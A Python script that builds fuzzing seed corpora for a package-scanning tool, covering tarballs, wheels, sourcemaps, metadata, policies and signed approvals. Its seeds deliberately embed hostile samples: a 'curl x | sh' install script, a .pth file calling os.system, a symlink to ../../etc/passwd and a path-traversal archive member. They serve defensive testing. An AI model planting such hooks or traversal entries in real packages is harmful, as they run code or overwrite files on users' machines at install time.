#!/usr/bin/env python3
"""Writes the fuzz targets' seed corpora into fuzz/seeds/<target>/ (committed, so a run starts
from inputs that reach deep into each reader). Standard library only; deterministic (fixed
mtimes, no randomness), so rerunning it gives the same bytes.

    python3 fuzz/make_seeds.py
"""
import base64
import gzip
import hashlib
import io
import json
import os
import tarfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
MTIME = 1_700_000_000


def out(target, name, data):
    d = os.path.join(HERE, "seeds", target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def tar(members, fmt=tarfile.GNU_FORMAT):
    """members: (name, data, type) with type one of tarfile's type flags."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for name, data, kind, link in members:
            ti = tarfile.TarInfo(name)
            ti.type = kind
            ti.mtime = MTIME
            ti.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
            ti.linkname = link
            ti.size = len(data) if kind == tarfile.REGTYPE else 0
            t.addfile(ti, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return buf.getvalue()


def f(name, data=b"x"):
    return (name, data, tarfile.REGTYPE, "")


def gz(data):
    return gzip.compress(data, mtime=0)


PKG = json.dumps({"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node x.js"},
                  "files": ["dist"], "bin": {"demo": "dist/cli.js"}}).encode()
MAP = json.dumps({"version": 3, "file": "cli.js", "sources": ["webpack://demo/./src/a.ts", "../src/b.ts"],
                  "sourcesContent": ["export const a = 1;\n", "const k = 'AKIA' + 'XXXXXXXXXXXXXXXX';\n"],
                  "names": [], "mappings": "AAAA,CAAC;AACD"}).encode()
INDEX_MAP = json.dumps({"version": 3, "sections": [
    {"offset": {"line": 0, "column": 0}, "map": json.loads(MAP)},
    {"offset": {"line": 9, "column": 0}, "url": "other.js.map"}]}).encode()


def tar_seeds():
    # The tgz target: first byte even = the rest is a tar the target gzips; odd = read as is.
    npm = tar([f("package/package.json", PKG), f("package/dist/cli.js", b"#!/usr/bin/env node\n"),
               f("package/dist/cli.js.map", MAP), ("package/lib", b"", tarfile.DIRTYPE, ""),
               ("package/link", b"", tarfile.SYMTYPE, "../../etc/passwd"),
               ("package/hard", b"", tarfile.LNKTYPE, "package/dist/cli.js"),
               f("package/../evil.js"), f("package/" + "d/" * 70 + "deep.js")])
    pax = tar([f("package/package.json", PKG), f("package/" + "long-name-" * 20 + ".js")],
              fmt=tarfile.PAX_FORMAT)
    nested = tar([f("package/package.json", PKG), f("package/vendor/inner.tgz", gz(npm))])
    out("tgz", "npm-gnu", b"\x00" + npm)
    out("tgz", "npm-pax", b"\x00" + pax)
    out("tgz", "nested", b"\x00" + nested)
    out("tgz", "gzip-as-is", b"\x01" + gz(npm))
    out("tgz", "sdist", b"\x00" + tar([f("demo-1.0.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n"),
                                       f("demo-1.0.0/setup.py", b"import os\n")]))


def zip_bytes(files, method=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def zip_seeds():
    wheel = [("demo/__init__.py", b"import os\n"), ("demo.pth", b"import os; os.system('id')\n"),
             ("demo-1.0.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n"),
             ("demo-1.0.0.dist-info/RECORD", b""), ("demo-1.0.0.data/purelib/x.pth", b"x\n")]
    out("zip", "wheel-deflated", zip_bytes(wheel))
    out("zip", "wheel-stored", zip_bytes(wheel, zipfile.ZIP_STORED))
    out("zip", "backslash-and-dup", zip_bytes([("a\\b.txt", b"1"), ("c/d.txt", b"2"), ("c/d.txt", b"3")]))
    out("zip", "nested", zip_bytes([("inner.zip", zip_bytes(wheel, zipfile.ZIP_STORED))]))


def sourcemap_seeds():
    out("sourcemap", "plain", MAP)
    out("sourcemap", "index", INDEX_MAP)
    out("sourcemap", "escapes", json.dumps({"version": 3, "sources": ["a\u202e.ts"],
                                            "sourcesContent": ["\\u0000\ud83d\ude00 \\ud800"],
                                            "mappings": ""}).encode())


def metadata_seeds():
    # First byte: 0 package.json, 1 bundled dependency's package.json, 2 PKG-INFO,
    # 3 wheel METADATA, 4 Cargo.toml.
    out("metadata", "package-json", b"\x00" + PKG)
    out("metadata", "bundled", b"\x01" + json.dumps({"name": "dep", "version": "1.0.0",
                                                     "scripts": {"install": "curl x | sh"}}).encode())
    out("metadata", "pkg-info", b"\x02Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\nRequires-Dist: requests\n")
    out("metadata", "metadata", b"\x03Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n\nlong description\n")
    out("metadata", "cargo-toml", b'\x04[package]\nname = "demo"\nversion = "1.0.0"\nbuild = "build.rs"\n')


def policy_seeds():
    # The documented example (every key), taken from docs/check.md so the seed follows it.
    with open(os.path.join(HERE, "..", "docs", "check.md"), encoding="utf-8") as doc:
        text = doc.read()
    block = text.split("```toml\n", 1)[1].split("```", 1)[0]
    out("policy", "documented", block.encode())
    out("policy", "small", b'fail_on = "medium"\ndisable = ["dev-*"]\n[severity]\n"secret-*" = "critical"\n')
    out("policy", "empty", b"")


def manifest_seeds():
    # What `shipcheck manifest` writes for a one-file npm tarball.
    tgz = gz(tar([f("package/package.json", b'{"name":"demo","version":"1.0.0"}')]))
    sha512 = hashlib.sha512(tgz).digest()
    m = {"schema": "shipcheck.manifest/v1",
         "tool": {"name": "shipcheck", "version": "0.1.0"},
         "artifact": {"path": "demo.tgz", "file_name": "demo.tgz", "format": "npm-tarball",
                      "name": "demo", "version": "1.0.0",
                      "sha256": hashlib.sha256(tgz).hexdigest(), "sha512": sha512.hex(),
                      "integrity": "sha512-" + base64.b64encode(sha512).decode(),
                      "packed_size": len(tgz), "unpacked_size": 33, "files": 1},
         "package": {"ecosystem": "npm", "source": "package.json", "name": "demo", "version": "1.0.0"},
         "entries": [{"index": 0, "path": "package.json", "raw_path": "package/package.json",
                      "kind": "file", "mode": 420, "size": 33,
                      "sha256": hashlib.sha256(b'{"name":"demo","version":"1.0.0"}').hexdigest(),
                      "installed": True}],
         "anomalies": []}
    out("manifest", "one-entry", json.dumps(m, indent=2).encode())


def approval_seeds():
    statement = {"_type": "https://in-toto.io/Statement/v1",
                 "subject": [{"name": "demo-1.0.0.tgz", "digest": {"sha256": "00" * 32}}],
                 "predicateType": "https://shipcheck.dev/release-review/v1", "predicate": {}}
    env = {"payloadType": "application/vnd.in-toto+json",
           "payload": base64.b64encode(json.dumps(statement).encode()).decode(),
           "signatures": [{"keyid": "", "sig": base64.b64encode(b"SSHSIG\x00\x00\x00\x01").decode()}]}
    signers = b'alice@example.com namespaces="shipcheck" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n'
    out("approval", "one-line", signers + b"\x00" + json.dumps(env).encode() + b"\n")
    out("approval", "bundle-only", json.dumps(env).encode() + b"\n\n" + b"{not json}\n")


def seek_index_seeds():
    # First byte even: the rest is data the target gzips in 1-3 members; odd: gzip as it is.
    text = b"".join(b"line %d of a minified bundle {a:1,b:[2,3]};\n" % i for i in range(300))
    out("seek_index", "text-one-member", b"\x00" + text)
    out("seek_index", "text-three-members", b"\x04" + text)
    out("seek_index", "two-members-as-is", b"\x01" + gz(text[:5000]) + gz(text[5000:]))
    out("seek_index", "padded-as-is", b"\x01" + gz(text) + b"\x00" * 64)


if __name__ == "__main__":
    tar_seeds()
    seek_index_seeds()
    zip_seeds()
    sourcemap_seeds()
    metadata_seeds()
    policy_seeds()
    manifest_seeds()
    approval_seeds()
